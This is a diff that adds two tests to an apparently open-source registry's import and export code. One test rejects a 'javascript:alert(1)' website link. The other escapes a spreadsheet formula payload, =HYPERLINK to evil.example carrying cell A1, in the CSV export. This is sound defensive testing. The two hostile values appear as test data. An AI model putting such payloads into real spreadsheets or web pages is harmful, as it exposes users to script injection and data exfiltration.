@@ -427,6 +427,52 @@ test('a malformed file is rejected whole, with one message per bad record, and t
   });
 });
 
+test('a javascript: link is rejected with its own message, and nothing is imported', async () => {
+  await withDatabase(async (db) => {
+    const directory = temporaryDirectory();
+    const organization = { ...readJson(example('organization_full.json')), website: 'javascript:alert(1)' };
+    writeFileSync(join(directory, 'bad.json'), JSON.stringify(organization));
+    const before = await countRegistryRows(db);
+    const error = await importHsds(db, join(directory, 'bad.json')).then(
+      () => assert.fail('the import should be rejected'),
+      (caught: unknown) => caught,
+    );
+    assert.ok(error instanceof AppError);
+    const [record] = describeRecords(error);
+    assert.match(
+      record!.message,
+      /website is a link the registry does not accept \(only http:, https:, mailto: and tel: links are allowed\): "javascript:alert\(1\)"/,
+    );
+    assert.deepEqual(await countRegistryRows(db), before);
+  });
+});
+
+test('the tabular export writes text a spreadsheet would run as a formula as text, and imports it back unchanged', async () => {
+  await withDatabase(async (db) => {
+    const directory = temporaryDirectory();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+    const organization = { ...readJson(example('organization_full.json')), description: formula, alternate_name: '-5' };
+    writeFileSync(join(directory, 'formula.json'), JSON.stringify(organization));
+    const { directory: exported, organizations } = await importAndExport(db, join(directory, 'formula.json'));
+    assert.equal(
+      organizations.find((row) => row.id === organization.id)?.description,
+      formula,
+      'JSON is not a spreadsheet',
+    );
+    const [header, ...rows] = parseCsv(
+      readFileSync(join(exported, 'tabular', 'organizations.csv'), 'utf8'),
+    ) as string[][];
+    const row = rows.find((cells) => cells[header!.indexOf('id')] === organization.id)!;
+    assert.equal(row[header!.indexOf('description')], `'${formula}`);
+    assert.equal(row[header!.indexOf('alternate_name')], '-5', 'a number is data');
+    assert.equal(row[header!.indexOf('year_incorporated')], '2011');
+    await withDatabase(async (second) => {
+      const { organizations: again } = await importAndExport(second, join(exported, 'tabular'));
+      assert.equal(again.find((row) => row.id === organization.id)?.description, formula);
+    });
+  });
+});
+
 test('references to records neither in the file nor in the registry, and repeated ids, are rejected', async () => {
   await withDatabase(async (db) => {
     const directory = temporaryDirectory();
